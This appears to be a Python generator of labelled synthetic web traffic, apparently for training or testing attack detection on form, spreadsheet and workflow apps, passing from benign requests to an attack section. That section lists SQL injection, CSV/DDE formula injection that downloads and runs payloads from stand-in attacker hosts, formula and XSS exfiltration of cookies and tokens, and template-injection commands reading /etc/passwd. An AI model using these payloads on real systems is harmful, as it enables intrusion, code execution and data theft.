                          "/static/fonts/Inter-var.woff2", "/manifest.webmanifest"])
            g.add("static", "benign", "GET", uri, g.browser(host, accept="*/*", referer=f"https://{host}/"))
        elif kind < 0.7:
            p = person(g)
            g.add("login", "benign", "POST", "/api/auth/login",
                  g.xhr(host, ctype="application/json", cookie=False),
                  g.js({"email": p["email"], "password": g.alnum(12) + "!#" + g.alnum(3), "remember": True}))
        else:
            g.add("search", "benign", "GET", "/api/search?" + qsv([("q", g.pick(["invoice template", "O'Connor", "Q2 budget", "rsvp & dinner", "50% off"])), ("type", "all")]),
                  g.xhr(host))



def benign_misc(g):
    # autosaved drafts of long public forms
    for _ in range(12):
        slug = g.pick(["job-application", "membership-renewal", "warranty-claim", "workshop-registration"])
        p = person(g)
        body = {"draftId": "drf_" + g.alnum(12), "page": g.rng.randint(1, 4),
                "values": {"fld_name": f"{p['first']} {p['last']}", "fld_email": p["email"],
                           "fld_address": f"{p['street']}, {p['zip']} {p['city']}",
                           "fld_experience": g.pick(["3 years in customer support (B2B SaaS).",
                                                     "Previously: barista -> shift lead -> store manager.",
                                                     "C1 German, B2 French; basic Excel & SQL.",
                                                     ""])}}
        g.add("public-form-autosave", "benign", "PUT", f"/api/public/forms/{slug}/drafts/{body['draftId']}",
              g.xhr(FORMS, ctype="application/json", cookie=f"lc_draft={g.hexs(24)}"), g.js(body))
    # spreadsheet comments and sharing
    for _ in range(6):
        sid = g.sheet_id()
        if g.rng.random() < 0.5:
            body = {"anchor": g.pick(["Sheet1!B4", "Budget 2024!F12"]), "content": g.pick(
                ["Is this the net or gross figure?", "@anna can you double-check Q3? Looks 10% too high.",
                 "Moved to the 'Archive' tab - see row 42.", "Why is this negative? Refund?"])}
            g.add("sheet-comment", "benign", "POST", f"/v4/spreadsheets/{sid}/comments", g.xhr(SHEETS, ctype="application/json"), g.js(body))
        else:
            body = {"role": g.pick(["reader", "commenter", "writer"]), "type": "user", "emailAddress": person(g)["email"],
                    "message": "Here's the sheet we talked about."}
            g.add("sheet-share", "benign", "POST", f"/v4/spreadsheets/{sid}/permissions?sendNotificationEmail=true",
                  g.xhr(SHEETS, ctype="application/json"), g.js(body))


# ===========================================================================
# Benign dev-content: the builders' own code-heavy editing traffic
# ===========================================================================

VALIDATION_RULES = [
    ("email", r"^[^\s@]+@[^\s@]+\.[^\s@]{2,}$"),
    ("phone", r"^\+?[0-9 ()\-.]{7,20}$"),
    ("postcode", r"^([A-Z]{1,2}\d[A-Z\d]? ?\d[A-Z]{2}|\d{5}(-\d{4})?)$"),
    ("iban", r"^[A-Z]{2}\d{2}[A-Z0-9]{11,30}$"),
    ("order_ref", r"^(ORD|RET)-\d{4,8}$"),
    ("url", r"^https?://[\w.-]+(?:\.[\w.-]+)+[\w\-._~:/?#[\]@!$&'()*+,;=]*$"),
    ("username", r"^(?![._])[a-z0-9._]{3,20}(?<![._])$"),
    ("vat", r"^(DE\d{9}|FR[A-Z0-9]{2}\d{9}|GB(\d{9}|\d{12}))$"),
]
LOGIC_RULES = [
    '{field_3} > 18 && {country} == "DE"',
    '{plan} == "Enterprise" || {seats} >= 50',
    '!{newsletter_optin} && {email} != ""',
    '({age} >= 16 and {age} < 18) or {guardian_consent} is true',
    'contains({topics}, "Billing") && not isEmpty({invoice_number})',
    '{rating} <= 2',
    '{start_date} < today() + 14',
]
SHEET_FORMULAS = [
    "=SUM(A1:A10)",
    '=IF(B2>0,"yes","no")',
    "=VLOOKUP(A2,Products!A:C,3,FALSE)",
    '=QUERY(A:C,"select A where B > 5")',
    '=QUERY(Orders!A1:F,"select B, sum(F) where C = \'shipped\' group by B order by sum(F) desc label sum(F) \'Revenue\'",1)',
    "=SUMIFS(D:D,B:B,\"Berlin\",C:C,\">=\"&DATE(2024,1,1))",
    "=ARRAYFORMULA(IF(LEN(A2:A),A2:A&\" \"&B2:B,\"\"))",
    "=IFERROR(INDEX(Rates!B:B,MATCH(E2,Rates!A:A,0))*D2,0)",
    "=COUNTIF(Status!C2:C500,\"Done\")/COUNTA(Status!C2:C500)",
    "=REGEXEXTRACT(A2,\"[0-9]{5}\")",
    "=XLOOKUP(A2,Staff!A:A,Staff!D:D,\"n/a\")",
    "=FILTER(A2:D,C2:C=\"Open\",D2:D<TODAY())",
]
TABLE_FORMULAS = [
    "AND({Status}='Done', {Due}<TODAY())",
    "OR({Priority}='High', IS_BEFORE({Due date}, DATEADD(TODAY(), 7, 'days')))",
    "FIND('urgent', LOWER({Subject})) > 0",
    "AND(NOT({Archived}), {Owner}='Anna Müller')",
    "IF({Amount} > 1000, 'Large', 'Small')",
    "DATETIME_DIFF(NOW(), {Created}, 'hours') < 24",
    "REGEX_MATCH({SKU}, '^A-[0-9]{3}$')",
    "SEARCH(\"O'Connor\", {Name})",
]
JS_STEPS = [
    "const items = $input.all();\nreturn items.map(item => ({\n  json: {\n    email: item.json.email.trim().toLowerCase(),\n    fullName: `${item.json.first} ${item.json.last}`,\n  },\n}));",
    "// dedupe by email\nconst seen = new Set();\nreturn $input.all().filter(i => {\n  if (seen.has(i.json.email)) return false;\n  seen.add(i.json.email);\n  return true;\n});",
    "const total = $input.all().reduce((s, i) => s + Number(i.json.amount || 0), 0);\nreturn [{ json: { total, currency: 'EUR' } }];",
    "const res = await fetch('https://api.example.com/v1/rates?base=EUR');\nconst data = await res.json();\nreturn { rate: data.rates.USD };",
    "if (!$json.phone) { throw new Error('missing phone'); }\nreturn { phone: $json.phone.replace(/[^0-9+]/g, '') };",
]
PY_STEPS = [
    "import re\nout = []\nfor item in _input.all():\n    e = item.json.get('email', '')\n    out.append({'email': e.lower(), 'valid': bool(re.match(r'^[^@]+@[^@]+$', e))})\nreturn out",
    "from datetime import datetime, timedelta\ndue = datetime.fromisoformat(input_data['created']) + timedelta(days=14)\noutput = {'due': due.date().isoformat()}",
    "total = sum(float(r['amount']) for r in input_data['rows'])\nreturn {'total': round(total, 2)}",
]
EXPRESSIONS = [
    "{{ $json.customer.email }}",
    "Hi {{ $json.first_name }}, your order {{ $json.order_id }} has shipped.",
    "={{ $json.amount > 1000 ? 'review' : 'auto-approve' }}",
    "{{ $node[\"HTTP Request\"].json[\"data\"][0].id }}",
    "{{ $('Google Sheets').item.json.Status === 'Done' }}",
]
RETOOL_SQL = [
    "SELECT id, email, created_at FROM users WHERE created_at > {{ dateRange.start }} ORDER BY created_at DESC LIMIT 100;",
    "select o.id, o.total, c.name from orders o join customers c on c.id = o.customer_id where o.status = {{ statusSelect.value }} order by o.created_at desc",
    "UPDATE tickets SET status = 'closed', closed_at = now() WHERE id = {{ table1.selectedRow.data.id }};",
    "SELECT date_trunc('week', created_at) AS week, count(*) AS signups\nFROM accounts\nWHERE plan <> 'free'\nGROUP BY 1\nORDER BY 1;",
    "INSERT INTO refunds (order_id, amount, reason) VALUES ({{ orderId.value }}, {{ amount.value }}, {{ reason.value }}) RETURNING id;",
    "SELECT * FROM products WHERE name ILIKE {{ '%' + search.value + '%' }} AND deleted_at IS NULL",
    "WITH recent AS (SELECT customer_id, max(created_at) AS last_order FROM orders GROUP BY customer_id)\nSELECT c.email, r.last_order FROM customers c JOIN recent r USING (customer_id) WHERE r.last_order < now() - interval '90 days';",
    "DELETE FROM cart_items WHERE cart_id = {{ cartTable.selectedRow.data.cart_id }} AND sku = {{ skuInput.value }};",
    "SELECT status, COUNT(*) FROM tickets WHERE team_id IN ({{ teams.value.join(',') }}) GROUP BY status UNION ALL SELECT 'total', COUNT(*) FROM tickets;",
]
TEMPLATES = [
    ("handlebars", "<h1>Hi {{first_name}},</h1>\n<p>Thanks for your order #{{order.id}}.</p>\n<ul>{{#each order.items}}<li>{{this.qty}} × {{this.name}} – {{currency this.price}}</li>{{/each}}</ul>\n{{#if coupon}}<p>Coupon {{coupon}} applied.</p>{{/if}}"),
    ("liquid", "{% if customer.first_name %}Hello {{ customer.first_name | capitalize }}{% else %}Hello there{% endif %},\n{% for line in order.line_items %}- {{ line.title }} x{{ line.quantity }}: {{ line.price | money }}\n{% endfor %}Total: {{ order.total_price | money_with_currency }}"),
    ("jinja", "Dear {{ user.name|title }},\n\n{% for inv in invoices if inv.overdue %}Invoice {{ inv.number }} ({{ inv.amount|round(2) }} {{ inv.currency }}) is overdue since {{ inv.due.strftime('%d.%m.%Y') }}.\n{% endfor %}\n{% include 'footer.txt' %}"),
    ("handlebars", "<table>{{#each rows}}<tr><td>{{@index}}</td><td>{{name}}</td><td>{{#if (gt score 80)}}<b>{{score}}</b>{{else}}{{score}}{{/if}}</td></tr>{{/each}}</table>"),
    ("liquid", "{% assign total = 0 %}{% for i in cart.items %}{% assign total = total | plus: i.line_price %}{% endfor %}<p style=\"color:#333\">Subtotal: {{ total | money }}</p>"),
    ("jinja", "{% extends 'base.html' %}{% block content %}<p>Your report for {{ period.start }} – {{ period.end }} is ready: <a href=\"{{ report_url }}\">download</a>.</p>{% endblock %}"),
    ("mjml", "<mjml><mj-body><mj-section><mj-column><mj-text font-size=\"20px\">Welcome, {{name}}!</mj-text><mj-button href=\"{{cta_url}}\">Get started</mj-button></mj-column></mj-section></mj-body></mjml>"),
]
CRONS = [("0 9 * * 1-5", "Europe/Berlin"), ("*/15 * * * *", "UTC"), ("0 0 1 * *", "America/New_York"),
         ("30 6 * * MON", "Europe/London")]
RICH_TEXT = [
    "<p>Please <strong>bring your ID</strong> and arrive 10 minutes early.</p><ul><li>Parking: rear entrance</li><li>Wi-Fi: guest</li></ul>",
    "<h2>Privacy</h2><p>We store your answers for 90 days. See our <a href=\"https://www.example.org/privacy\" target=\"_blank\" rel=\"noopener\">privacy policy</a>.</p>",
    "<p style=\"text-align:center\"><img src=\"https://cdn.example.com/logo.png\" alt=\"Example logo\" width=\"120\"></p>",
]


def benign_dev(g):
    for name, rx in VALIDATION_RULES:
        fid = "frm_" + g.alnum(10)
        body = {"fields": [{"id": "fld_" + g.alnum(6), "type": "short_text", "label": name.replace("_", " ").title(),
                            "required": True, "validation": {"pattern": rx, "message": f"Please enter a valid {name}"}}]}
        g.add("form-def-regex", "dev-content", "PUT", f"/api/v1/forms/{fid}/fields",
              g.xhr(FORMS, ctype="application/json", referer=f"https://{FORMS}/app/forms/{fid}/edit"), g.js(body))
    for rule in LOGIC_RULES:
        fid = "frm_" + g.alnum(10)
        body = {"logic": [{"when": rule, "then": [{"action": g.pick(["show", "hide", "jump", "require"]),
                                                   "target": "fld_" + g.alnum(6)}]}]}
        g.add("form-def-logic", "dev-content", "PUT", f"/api/v1/forms/{fid}/logic",
              g.xhr(FORMS, ctype="application/json", referer=f"https://{FORMS}/app/forms/{fid}/logic"), g.js(body))
    for html in RICH_TEXT:
        fid = "frm_" + g.alnum(10)
        g.add("form-def-richtext", "dev-content", "PATCH", f"/api/v1/forms/{fid}/blocks/blk_{g.alnum(6)}",
              g.xhr(FORMS, ctype="application/json"), g.js({"type": "statement", "html": html}))
    for f in SHEET_FORMULAS:
        sid = g.sheet_id()
        cell = g.pick(["Sheet1!E2", "Summary!B4", "Dashboard!C1", "Sales!H2"])
        if g.rng.random() < 0.6:
            g.add("sheet-formula", "dev-content", "PUT",
                  f"/v4/spreadsheets/{sid}/values/{qv(cell)}?valueInputOption=USER_ENTERED",
                  g.api(SHEETS, ctype="application/json"), g.js({"range": cell, "values": [[f]]}))
        else:
            g.add("sheet-formula", "dev-content", "POST", f"/d/{sid}/save?" + qsv([("id", sid), ("rev", str(g.rng.randint(100, 9999)))]),
                  g.xhr(SHEETS, ctype="application/x-www-form-urlencoded;charset=UTF-8"),
                  g.form([("cell", cell), ("f", f), ("tz", "Europe/Berlin")]))
    for f in TABLE_FORMULAS:
        base, tbl = g.base_id(), g.tbl_id()
        params = [("filterByFormula", f), ("pageSize", "50")]
        g.add("table-filter-formula", "dev-content", "GET", f"/v0/{base}/{tbl}?" + qsv(params), g.api(TABLES))
    for code in JS_STEPS:
        wid = str(g.rng.randint(10, 9999))
        body = {"nodes": [{"name": "Code", "type": "n8n-nodes-base.code", "parameters": {"language": "javaScript", "jsCode": code}}]}
        g.add("flow-code-js", "dev-content", "PATCH", f"/rest/workflows/{wid}",
              g.xhr(FLOW, ctype="application/json", referer=f"https://{FLOW}/workflow/{wid}"), g.js(body))
    for code in PY_STEPS:
        wid = str(g.rng.randint(10, 9999))
        body = {"nodes": [{"name": "Code", "type": "n8n-nodes-base.code", "parameters": {"language": "python", "pythonCode": code}}]}
        g.add("flow-code-py", "dev-content", "PATCH", f"/rest/workflows/{wid}",
              g.xhr(FLOW, ctype="application/json"), g.js(body))
    for ex in EXPRESSIONS:
        wid = str(g.rng.randint(10, 9999))
        body = {"expression": ex, "itemIndex": 0, "workflowId": wid}
        g.add("flow-expression", "dev-content", "POST", "/rest/expressions/evaluate",
              g.xhr(FLOW, ctype="application/json"), g.js(body))
    for sql in RETOOL_SQL:
        body = {"resourceName": g.pick(["prod-postgres", "analytics-replica", "support_db"]),
                "queryName": "query" + str(g.rng.randint(1, 20)),
                "query": sql, "runWhenModelUpdates": False}
        g.add("tools-query-sql", "dev-content", "POST", f"/api/pages/uuids/{g.hexs(8)}-{g.hexs(4)}/query",
              g.xhr(TOOLS, ctype="application/json", referer=f"https://{TOOLS}/editor/Customer%20Lookup"), g.js(body))
    for lang, src in TEMPLATES:
        tid = "tpl_" + g.alnum(10)
        body = {"engine": lang, "subject": g.pick(["Your order {{order.id}}", "Welcome aboard!", "Invoice reminder"]),
                "source": src}
        g.add("template-edit", "dev-content", "PUT", f"/api/templates/{tid}",
              g.xhr(MAIL, ctype="application/json", referer=f"https://{MAIL}/designer/{tid}"), g.js(body))
    for cron, tz in CRONS:
        g.add("report-cron", "dev-content", "POST", "/api/schedules",
              g.xhr(REPORTS, ctype="application/json"),
              g.js({"report": "rpt_" + g.alnum(8), "cron": cron, "timezone": tz, "format": "pdf",
                    "recipients": ["ops@example.com"]}))


# ===========================================================================
# Attacks
# ===========================================================================

ATTACKER = ["attacker.example.com", "evil.example.net", "x.example.org", "203.0.113.66", "198.51.100.23"]

SQLI_FIELD = [
    "' OR '1'='1' -- ",
    "admin'--",
    "x' OR 1=1#",
    "' UNION SELECT NULL,username,password FROM users--",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
    "'; DROP TABLE submissions;--",
    "' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
    "\") OR (\"a\"=\"a",
    "test@example.com' AND 1=CONVERT(int,(SELECT @@version))--",
    "'||(SELECT pg_sleep(10))||'",
    "1'; WAITFOR DELAY '0:0:7'--",
    "' UNION ALL SELECT table_name,column_name,NULL FROM information_schema.columns-- -",
    "anna' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a",
    "' OR 'x' LIKE 'x",
    "')) OR 1=1--",
    "1' ORDER BY 12-- -",
    "' AND 1=(SELECT COUNT(*) FROM sqlite_master)--",
    "x' AND updatexml(null,concat(0x0a,user()),null)-- ",
    "' || UTL_INADDR.get_host_name((SELECT user FROM dual)) || '",
    "'/**/UNION/**/SELECT/**/1,group_concat(email,0x3a,password_hash),3/**/FROM/**/accounts#",
]
SQLI_NUMERIC = [
    "12 OR 1=1",
    "1 AND 1=2 UNION SELECT 1,2,version()--",
    "5;SELECT pg_sleep(5)--",
    "3 AND (SELECT 4512 FROM (SELECT(SLEEP(5)))xYz)",
    "1) OR (1=1",
    "-1 UNION SELECT username, password FROM admin_users",
    "(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
    "2 AND ASCII(SUBSTRING((SELECT current_user),1,1))>64",
    "1;EXEC xp_cmdshell('whoami')--",
    "0x31 or benchmark(10000000,md5(1))",
]
SQLI_SORT = [
    "name,(SELECT CASE WHEN (SELECT SUBSTR(password,1,1) FROM users WHERE id=1)='a' THEN name ELSE created_at END)",
    "(CASE WHEN (1=1) THEN created_at ELSE id END)",
    "created_at desc, (select sleep(5))",
    "IF(1=1,title,id)-- -",
    "id;SELECT pg_sleep(8)--",
    "title ASC; DROP TABLE forms--",
    "extractvalue(1,concat(0x5c,(select table_name from information_schema.tables limit 1)))",
    "1,(select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
]


def atk_sqli(g):
    # public form fields, urlencoded
    for p in SQLI_FIELD[:12]:
        slug = g.form_slug()
        field = g.pick(["field_1", "field_3", "email", "order_ref", "company", "coupon"])
        pairs = [("form_id", "frm_" + g.alnum(10)), (field, p), ("message", "hello"), ("_token", g.alnum(40))]
        g.add("sqli-public-form", "sqli", "POST", f"/f/{slug}/submit",
              g.browser(FORMS, ctype="application/x-www-form-urlencoded", referer=f"https://{FORMS}/f/{slug}"),
              g.form(pairs))
    # JSON submissions
    for p in SQLI_FIELD[12:]:
        slug = g.form_slug()
        body = {"formId": "frm_" + g.alnum(10),
                "answers": [{"field": "fld_name", "value": "Liam"}, {"field": g.pick(["fld_email", "fld_order", "fld_company"]), "value": p}]}
        g.add("sqli-public-json", "sqli", "POST", f"/api/public/forms/{slug}/responses",
              g.xhr(FORMS, ctype="application/json", cookie=False), g.js(body))
    # record ids in the path and query
    for p in SQLI_NUMERIC:
        r = g.rng.random()
        if r < 0.35:
            uri = f"/api/v1/submissions/{qv(p)}"
            host = FORMS
        elif r < 0.7:
            uri = f"/api/records?" + qsv([("table", "orders"), ("id", p)])
            host = TABLES
        else:
            uri = f"/api/reports/{qv(p)}/download?format=pdf"
            host = REPORTS
        g.add("sqli-record-id", "sqli", "GET", uri, g.xhr(host))
    # sort / order / view params
    for p in SQLI_SORT:
        base, tbl = g.base_id(), g.tbl_id()
        if g.rng.random() < 0.5:
            uri = f"/api/v1/forms/frm_{g.alnum(10)}/responses?" + qsv([("sort", p), ("limit", "50")])
            host = FORMS
        else:
            uri = f"/v0/{base}/{tbl}?" + qsv([("sort[0][field]", p), ("sort[0][direction]", "asc")])
            host = TABLES
        g.add("sqli-sort", "sqli", "GET", uri, g.api(host))
    for p in ["Grid view' UNION SELECT id,api_key,NULL FROM tokens--", "viwX' AND SLEEP(5)#",
              "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT database()),0x71))s), 8446744073709551610, 8446744073709551610)))-- x"]:
        g.add("sqli-view", "sqli", "GET", f"/v0/{g.base_id()}/{g.tbl_id()}?" + qform([("view", p), ("pageSize", "50")]),
              g.xhr(TABLES))
    # cookies and headers
    for p in ["1' AND 1=1-- ", "' or sleep(5)#", "x' UNION SELECT 1,2,3-- -"]:
        g.add("sqli-cookie", "sqli", "GET", f"/app/forms",
              g.browser(FORMS, cookie=f"lc_session={g.hexs(32)}; workspace_id={qv(p)}"))
    for p in ["1' OR '1'='1", "99 AND SLEEP(6)"]:
        g.add("sqli-header", "sqli", "GET", "/api/v1/forms?page=1",
              g.api(FORMS, extra=[["X-Workspace-Id", p]]))
    # attacker-driven spreadsheet QUERY from a public share link isn't SQL; keep a classic
    # stacked query against the share token param
    g.add("sqli-share", "sqli", "GET", "/s/" + g.alnum(12) + "?" + qform([("token", "abc'; INSERT INTO users(email,role) VALUES('x@example.net','admin');--")]),
          g.browser(SHEETS, cookie=False))


DDE = [
    "=cmd|'/c calc'!A1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C powershell IEX(wget http://attacker.example.com/shell.exe)'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=cmd|'/C powershell -nop -w hidden -e JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA='!A1",
    "=rundll32|'URL.dll,OpenURL http://evil.example.net/payload.hta'!A1",
    "=cmd|'/c mshta http://198.51.100.23/x.hta'!_xlbgnm.A1",
    "\t=cmd|'/c notepad'!'A1'",
    "=1+1)*cmd|' /C certutil -urlcache -split -f http://203.0.113.66/a.exe a.exe && a.exe'!A0",
    "=SHELL(\"cmd /c calc\")",
    "=EXEC(\"cmd.exe /c net user hacker P@ss /add\")",
]
FORMULA_EXFIL = [
    "=HYPERLINK(\"http://attacker.example.com/?leak=\"&A1&B1&C1,\"Error: click to reload\")",
    "=IMPORTXML(CONCAT(\"http://evil.example.net/?d=\",A2:C2),\"//a\")",
    "=IMPORTXML(\"http://x.example.org/collect?\"&JOIN(\",\",A1:Z50),\"//a\")",
    "=WEBSERVICE(\"http://attacker.example.com/steal?v=\"&A1)",
    "=IMAGE(\"https://evil.example.net/track.png?c=\"&ENCODEURL(B2))",
    "@HYPERLINK(\"http://198.51.100.23/login\",\"Session expired - sign in again\")",
    "=IMPORTRANGE(\"https://docs.example.com/spreadsheets/d/victim\",\"Sheet1!A1:Z100\")&IMPORTDATA(\"http://attacker.example.com/x?\"&A1)",
    "=HYPERLINK(\"javascript:alert(document.domain)\",\"Open\")",
]


def atk_formula(g):
    for p in DDE:
        slug = g.form_slug()
        r = g.rng.random()
        if r < 0.5:
            field = g.pick(["field_1", "field_2", "company", "message", "phone"])
            g.add("csv-dde-form", "rce", "POST", f"/f/{slug}/submit",
                  g.browser(FORMS, ctype="application/x-www-form-urlencoded", referer=f"https://{FORMS}/f/{slug}", cookie=False),
                  g.form([("form_id", "frm_" + g.alnum(10)), (field, p), ("field_3", "x@example.net"), ("_token", g.alnum(40))]))
        elif r < 0.8:
            g.add("csv-dde-json", "rce", "POST", f"/api/public/forms/{slug}/responses",
                  g.xhr(FORMS, ctype="application/json", cookie=False),
                  g.js({"formId": "frm_" + g.alnum(10), "answers": [{"field": "fld_name", "value": p}]}))
        else:
            csv_ = f"name,email,amount\nAnna,anna@example.com,10\n\"{p.replace(chr(34), chr(34) * 2)}\",x@example.net,5\n"
            ctype, body = g.multipart([("file", "contacts.csv", "text/csv", csv_)])
            g.add("csv-dde-upload", "rce", "POST", f"/f/{slug}/submit",
                  g.browser(FORMS, ctype=ctype, cookie=False), body)
    for p in FORMULA_EXFIL:
        slug = g.form_slug()
        if g.rng.random() < 0.5:
            g.add("csv-formula-form", "generic", "POST", f"/f/{slug}/submit",
                  g.browser(FORMS, ctype="application/x-www-form-urlencoded", cookie=False),
                  g.form([("name", p), ("email", "a@example.org"), ("message", "hi")]))
        else:
            g.add("csv-formula-json", "generic", "POST", f"/api/public/forms/{slug}/responses",
                  g.xhr(FORMS, ctype="application/json", cookie=False),
                  g.js({"formId": "frm_" + g.alnum(10), "answers": [{"field": "fld_company", "value": p}]}))


XSS = [
    "<script>alert(document.domain)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//attacker.example.com/c?'+document.cookie)>",
    "\"><script src=https://evil.example.net/x.js></script>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<details open ontoggle=alert(1)>",
    "javascript:alert(document.cookie)",
    "<a href=\"javascript:fetch('/api/v1/tokens').then(r=>r.text()).then(t=>navigator.sendBeacon('//x.example.org',t))\">Open</a>",
    "'-alert(1)-'",
    "<body onload=alert('XSS')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<input autofocus onfocus=alert(1)>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "<ScRiPt>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</sCrIpT>",
    "<img src=1 onerror=\"this.src='https://attacker.example.com/?'+localStorage.getItem('token')\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<video><source onerror=\"javascript:alert(1)\">",
    "</textarea><script>alert(1)</script>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "{{constructor.constructor('alert(1)')()}}",
    "<marquee onstart=alert(1)>",
    "[click me](javascript:alert(1))",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<svg><script>alert&#40;document.domain&#41;</script>",
    "\"autofocus onfocus=\"alert(document.cookie)",
    "<a href=\"data:text/html,<script>alert(1)</script>\">Download receipt</a>",
    "<form action=\"https://evil.example.net/steal\"><input name=pw type=password placeholder=\"Session expired, re-enter password\"><button>Continue</button></form>",
    "<script>new Image().src='//x.example.org/?'+document.cookie</script>",
    "<img src=\"x\" onerror=\"eval(String.fromCharCode(97,108,101,114,116,40,49,41))\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x\"></use></svg>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<button popovertarget=x>Click</button><div popover id=x onbeforetoggle=alert(1)>",
]


def atk_xss(g):
    for i, p in enumerate(XSS):
        slug = g.form_slug()
        fid = "frm_" + g.alnum(10)
        kind = i % 8
        if kind == 0:
            g.add("xss-form-title", "xss", "PATCH", f"/api/v1/forms/{fid}",
                  g.xhr(FORMS, ctype="application/json"), g.js({"title": "Feedback " + p, "description": ""}))
        elif kind == 1:
            g.add("xss-field-label", "xss", "PUT", f"/api/v1/forms/{fid}/fields",
                  g.xhr(FORMS, ctype="application/json"),
                  g.js({"fields": [{"id": "fld_" + g.alnum(6), "type": "short_text", "label": p, "required": False}]}))
        elif kind == 2:
            g.add("xss-public-form", "xss", "POST", f"/f/{slug}/submit",
                  g.browser(FORMS, ctype="application/x-www-form-urlencoded", cookie=False),
                  g.form([("field_1", "Liam"), ("message", p), ("field_3", "liam@example.com")]))
        elif kind == 3:
            g.add("xss-public-json", "xss", "POST", f"/api/public/forms/{slug}/responses",
                  g.xhr(FORMS, ctype="application/json", cookie=False),
                  g.js({"answers": [{"field": "fld_website", "value": p}]}))
        elif kind == 4:
            g.add("xss-query", "xss", "GET", f"/f/{slug}?" + qform([("prefill_name", p)]),
                  g.browser(FORMS, cookie=False))
        elif kind == 5:
            g.add("xss-record", "xss", "PATCH", f"/v0/{g.base_id()}/{g.tbl_id()}/{g.rec_id()}",
                  g.api(TABLES, ctype="application/json"), g.js({"fields": {"Notes": p}}))
        elif kind == 6:
            g.add("xss-search", "xss", "GET", "/api/search?" + qsv([("q", p), ("type", "all")]), g.xhr(TABLES))
        else:
            g.add("xss-sheet-cell", "xss", "PUT", f"/v4/spreadsheets/{g.sheet_id()}/values/Sheet1%21A1?valueInputOption=RAW",
                  g.api(SHEETS, ctype="application/json"), g.js({"values": [[p]]}))
    # file names in uploads
    for fn in ["\"><img src=x onerror=alert(1)>.png", "<svg onload=alert(document.domain)>.pdf",
               "invoice<script>alert(1)<\\/script>.pdf", "cv.pdf\" onmouseover=\"alert(1)"]:
        ctype, body = g.multipart([("name", "Anna"), ("attachment", fn, "application/pdf", "%PDF-1.4\n%%EOF")])
        g.add("xss-filename", "xss", "POST", f"/f/{g.form_slug()}/submit", g.browser(FORMS, ctype=ctype, cookie=False), body)
    # SVG upload with script
    ctype, body = g.multipart([("attachment", "logo.svg", "image/svg+xml",
                                "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.cookie)\"><script>fetch('https://attacker.example.com/?c='+document.cookie)</script></svg>")])
    g.add("xss-svg-upload", "xss", "POST", "/api/v1/forms/frm_" + g.alnum(10) + "/logo", g.browser(FORMS, accept=ACCEPT_JSON, ctype=ctype), body)
    # rich-text block with event handler injected via public "statement" editor of a shared form
    for html in ["<p>Welcome</p><img src=x onerror=\"fetch('/api/v1/me').then(r=>r.json()).then(d=>fetch('//evil.example.net/'+btoa(JSON.stringify(d))))\">",
                 "<p>Terms</p><iframe src=\"javascript:alert(document.domain)\"></iframe>"]:
        g.add("xss-richtext", "xss", "PATCH", f"/api/v1/forms/frm_{g.alnum(10)}/blocks/blk_{g.alnum(6)}",
              g.xhr(FORMS, ctype="application/json"), g.js({"type": "statement", "html": html}))


SSTI = [
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('whoami').read()}}",
    "{{ lipsum.__globals__['os'].popen('curl http://attacker.example.com/$(hostname)').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()",
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "${T(java.lang.Runtime).getRuntime().exec(\"curl http://evil.example.net/x\")}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "<%= system('cat /etc/passwd') %>",
    "<%= `id` %>",
    "{system('id')}",
